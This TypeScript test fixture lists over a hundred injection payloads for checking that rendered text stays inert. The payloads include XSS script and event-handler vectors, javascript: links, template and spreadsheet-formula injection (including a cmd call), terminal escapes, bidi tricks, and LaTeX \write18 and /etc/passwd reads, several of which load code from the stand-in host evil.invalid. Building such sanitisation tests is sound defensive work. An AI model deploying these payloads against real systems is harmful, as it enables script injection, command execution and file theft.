// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is what is tested
/** Texts that must stay text wherever they are shown. Each script sets `window.hacked`, each request goes to a name that does not exist. */
const SCRIPTS = [
  "<script>window.hacked=1</script>",
  "</script><script>window.hacked=2</script>",
  "</title><script>window.hacked=3</script>",
  "</textarea><script>window.hacked=4</script>",
  "</style><script>window.hacked=5</script>",
  "<scr<script>ipt>window.hacked=6</scr</script>ipt>",
  "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
  "<script type=module>import('//evil.invalid/x.js')</script>",
  "<script>alert(1)</script>",
  "<!--<script>window.hacked=7//--></script>",
  "<![CDATA[<script>window.hacked=8</script>]]>",
  "<base href=//evil.invalid/>",
  "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
  "<link rel=stylesheet href=//evil.invalid/x.css>",
  "<iframe srcdoc='<script>parent.hacked=9</script>'></iframe>",
  "<object data=//evil.invalid/x></object>",
  "<embed src=//evil.invalid/x>",
  "<template><script>window.hacked=10</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.hacked=11>'>",
  "<portal src=//evil.invalid/>",
];
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerdown",
  "onbegin",
].flatMap((handler) => [
  `<img src=x ${handler}="window.hacked='${handler}'">`,
  `" ${handler}="window.hacked='${handler}'" autofocus tabindex=1 x="`,
  `' ${handler}='window.hacked=1' autofocus x='`,
]);
const SVG = [
  "<svg onload=window.hacked=1>",
  "<svg><script>window.hacked=1</script></svg>",
  "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:window.hacked=1'><text>click</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>",
  "<svg><use href='//evil.invalid/x.svg#a'/></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
  "<svg><set attributeName=onmouseover to=window.hacked=1>",
  "<svg><image href=//evil.invalid/x.png>",
  "<svg><style>@import '//evil.invalid/x.css'</style></svg>",
];
const LINKS = [
  "javascript:window.hacked=1",
  "[click](javascript:window.hacked=1)",
  "![image](//evil.invalid/x.png)",
  '![image](x "onerror=window.hacked=1")',
  "[a]: //evil.invalid/ 'x'",
  "<javascript:window.hacked=1>",
  "<a href=javascript:window.hacked=1>click</a>",
  "<a href=data:text/html,<script>window.hacked=1</script>>click</a>",
  "<form action=javascript:window.hacked=1><button>go</button></form>",
  "http://evil.invalid/?q=<script>",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "file:///etc/passwd",
];
const TEMPLATES = [
  "${window.hacked=1}",
  "{{window.hacked=1}}",
  "{{constructor.constructor('window.hacked=1')()}}",
  "<%= window.hacked=1 %>",
  "#{window.hacked=1}",
  "`${window.hacked=1}`",
  "</pre>```js\nwindow.hacked=1\n```",
  "${await import('//evil.invalid/x.js')}",
  "datum['constructor']",
  "__proto__",
];
const TERMINAL = [
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u001b]8;;http://evil.invalid\u001b\\click\u001b]8;;\u001b\\",
  "\u009b31m",
  "\u0007\u0008\u000c",
  "a\rb",
  "\u001b[2J\u001b[H",
  "\u001bc",
];
const BIDI = [
  "\u202egnp.exe",
  "\u2066left\u2069",
  "\u202dforced\u202c",
  "a\u200bb\u200cc\u200dd\ufeff",
  "\u2028line\u2029paragraph",
  "\u{e0041}\u{e0042}",
  "\u061carabic mark",
  "\u00adsoft",
];
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.invalid")',
  "+1+1",
  "-1+1|cmd",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML("//evil.invalid")',
];
const LATEX = [
  "\\input{/etc/passwd}",
  "\\write18{id}",
  "\\immediate\\write18{id}",
  "\\end{document}",
  "$\\alpha$",
  "% comment",
  "\\csname x\\endcsname",
  "^^5cinput",
  "\\def\\x{\\x}\\x",
  "a & b \\\\ c",
];

/** More than a hundred, and lines of a megabyte with and without a place to break. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...SVG,
  ...LINKS,
  ...TEMPLATES,
  ...TERMINAL,
  ...BIDI,
  ...FORMULAS,
  ...LATEX,
];
export const LONG_LINES: readonly string[] = ["x".repeat(1_000_000), "wide word ".repeat(100_000)];
